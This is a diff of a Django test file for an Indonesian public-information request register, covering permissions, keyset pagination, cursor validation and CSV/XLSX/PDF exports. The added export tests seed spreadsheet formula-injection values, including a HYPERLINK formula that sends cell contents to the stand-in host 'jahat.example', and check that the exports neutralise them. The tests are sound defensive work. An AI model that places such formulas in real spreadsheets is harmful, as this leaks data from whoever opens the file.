@@ -38,7 +38,7 @@ def register_client(client_for, office):
 
 @pytest.mark.parametrize("role", sorted(ROLE_LABELS))
 def test_register_permission_matrix(client_for, role, office):
-    for name in ("requests:register", "requests:register-csv", "requests:register-xlsx"):
+    for name in ("requests:register", "requests:register-csv", "requests:register-xlsx", "requests:register-pdf"):
         status = client_for(role).get(reverse(name)).status_code
         assert status == (200 if role in REGISTER_ROLES else 403), name
 
@@ -79,16 +79,17 @@ def test_register_shows_every_column(register_client):
         assert header in page, header
 
 
-def test_register_refusal_reason_is_translated_with_the_pasal_17_letter(office, make_user):
+def test_register_refusal_reason_is_translated_with_the_pasal_17_letter(office):
     from django.utils import translation
 
-    from requests.selectors import RegisterFilters, register_refusal_reason, register_rows
+    from requests.selectors_register import RegisterFilters, register_refusal_reason, register_rows, register_typed_rows
 
     refused_request()
-    row = register_rows(filters=RegisterFilters(), user=make_user("ppid")).get()
     with translation.override("id"):
+        [row] = register_typed_rows(register_rows(filters=RegisterFilters()))
         assert register_refusal_reason(row) == "Pasal 17 huruf h UU 14/2008"
     with translation.override("en"):
+        [row] = register_typed_rows(register_rows(filters=RegisterFilters()))
         assert register_refusal_reason(row) == "Article 17 letter h of Law 14/2008"
 
 
@@ -141,11 +142,36 @@ def test_register_overdue_filter(register_client):
     assert fresh.register_number not in page and decided_late.register_number not in page
 
 
-def test_register_paginates(register_client):
-    for _ in range(51):
+def test_register_pages_by_keyset_forward_and_back(register_client):
+    made = [InformationRequestFactory(received_at=at(2026, 11, 2, 8, 0) + dt.timedelta(minutes=n)) for n in range(51)]
+    newest_first = [r.register_number for r in reversed(made)]
+    first = register_client.get(reverse("requests:register"))
+    assert "51 permohonan" in first.content.decode()
+    assert newest_first[0] in first.content.decode() and newest_first[50] not in first.content.decode()
+    next_cursor = first.context["page"].next_cursor
+    second = register_client.get(reverse("requests:register"), {"sesudah": next_cursor})
+    assert newest_first[50] in second.content.decode() and newest_first[49] not in second.content.decode()
+    back = register_client.get(reverse("requests:register"), {"sebelum": second.context["page"].previous_cursor})
+    assert [line[1] for line in back.context["lines"]] == [line[1] for line in first.context["lines"]]
+
+
+@pytest.mark.parametrize("cursor", ["x", "12-", "-3", "9" * 40 + "-1", "1-1\x00", "١٢-٣"])
+def test_register_ignores_a_malformed_cursor(register_client, cursor):
+    InformationRequestFactory()
+    for key in ("sesudah", "sebelum"):
+        assert register_client.get(reverse("requests:register"), {key: cursor}).status_code == 200
+
+
+def test_register_caps_the_count_it_shows(register_client, monkeypatch):
+    monkeypatch.setattr("requests.selectors_register.COUNT_LIMIT", 3)
+    for _ in range(5):
         InformationRequestFactory()
-    page = register_client.get(reverse("requests:register")).content.decode()
-    assert "Halaman 1 dari 2" in page
+    assert "Lebih dari 3 permohonan" in register_client.get(reverse("requests:register")).content.decode()
+
+
+def csv_rows(response):
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
 
 
 def test_csv_export_has_the_columns_and_follows_the_filters(register_client):
@@ -153,31 +179,66 @@ def test_csv_export_has_the_columns_and_follows_the_filters(register_client):
     InformationRequestFactory(channel=Channel.PHONE)
     response = register_client.get(reverse("requests:register-csv"), {"channel": "letter"})
     assert response["Content-Disposition"].startswith("attachment")
-    text = b"".join(response.streaming_content).decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = csv_rows(response)
     assert rows[0][0] == "Nomor register" and "Alasan penolakan" in rows[0]
     assert len(rows) == 2
     assert rows[1][0] == request.register_number
     assert "2026-11-20" in rows[1]
 
 
-def test_xlsx_export_opens_with_typed_dates(register_client):
-    request = refused_request()
-    response = register_client.get(reverse("requests:register-xlsx"))
-    sheet = load_workbook(io.BytesIO(response.content)).active
-    rows = list(sheet.iter_rows(values_only=True))
-    assert rows[0][0] == "Nomor register"
-    assert rows[1][0] == request.register_number
-    assert isinstance(rows[1][1], dt.datetime | dt.date)
+HOSTILE = ("=HYPERLINK(\"http://jahat.example/?x=\"&A1,\"klik\")", "+62-1+1", "-2+3", "@SUM(1+1)", "\tteks", "\rteks")
+
+
+def hostile_request():
+    requester = RequesterFactory(full_name=HOSTILE[0], address=HOSTILE[3], occupation=HOSTILE[4])
+    return InformationRequestFactory(requester=requester, information_wanted=HOSTILE[1], purpose=HOSTILE[2], copy_fee=-5000)
+
+
+def test_csv_export_neutralises_formulas_but_keeps_numbers(register_client):
+    hostile_request()
+    header, row = csv_rows(register_client.get(reverse("requests:register-csv")))
+    cells = dict(zip(header, row))
+    assert cells["Nama pemohon"] == "'" + HOSTILE[0]
+    assert cells["Informasi yang diminta"] == "'" + HOSTILE[1]
+    assert cells["Tujuan penggunaan"] == "'" + HOSTILE[2]
+    assert cells["Alamat"] == "'" + HOSTILE[3]
+    assert cells["Pekerjaan"] == "'" + HOSTILE[4]
+    assert cells["Biaya (Rp)"] == "-5000"  # a number, not text to escape
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for key, value in cells.items() if key != "Biaya (Rp)")
+
+
+def test_xlsx_export_stores_formulas_as_text_and_numbers_and_dates_typed(register_client, tmp_path):
+    from requests.exports import register_xlsx_build
+
+    hostile_request()
+    path = tmp_path / "register.xlsx"
+    with path.open("wb") as output:
+        register_xlsx_build({}, output, lambda done, total: None)
+    sheet = load_workbook(path).active
+    header, row = list(sheet.iter_rows(values_only=True))
+    cells = dict(zip(header, row))
+    assert cells["Nama pemohon"] == "'" + HOSTILE[0]
+    assert cells["Tujuan penggunaan"] == "'" + HOSTILE[2]
+    assert cells["Biaya (Rp)"] == -5000
+    assert isinstance(cells["Tanggal"], dt.datetime)
+    formula_cells = [c.coordinate for line in load_workbook(path).active.iter_rows() for c in line if c.data_type == "f"]
+    assert formula_cells == []
+
+
+def test_xlsx_and_print_pages_ask_before_queueing(register_client):
+    for name in ("requests:register-xlsx", "requests:register-pdf"):
+        response = register_client.get(reverse(name), {"date_from": "2026-11-01", "date_to": "2026-11-30"})
+        assert response.status_code == 200 and "Buat berkas" in response.content.decode()
 
 
 def test_register_print_needs_a_period_and_respects_the_row_cap(register_client, monkeypatch):
-    response = register_client.get(reverse("requests:register-pdf"))
+    response = register_client.post(reverse("requests:register-pdf"))
     assert response.status_code == 302
+    assert "pilih periode" in register_client.get(response["Location"]).content.decode()
     monkeypatch.setattr("requests.views.register.REGISTER_PRINT_MAX_ROWS", 2)
     for day in (3, 4, 5):
         InformationRequestFactory(received_at=at(2026, 11, day, 10, 0))
-    response = register_client.get(reverse("requests:register-pdf"), {"date_from": "2026-11-01", "date_to": "2026-11-30"})
+    query = "?date_from=2026-11-01&date_to=2026-11-30"
+    response = register_client.post(reverse("requests:register-pdf") + query)
     assert response.status_code == 302
-    follow = register_client.get(response["Location"]).content.decode()
-    assert "dibatasi 2 baris" in follow
+    assert "lebih dari 2 permohonan" in register_client.get(response["Location"]).content.decode()
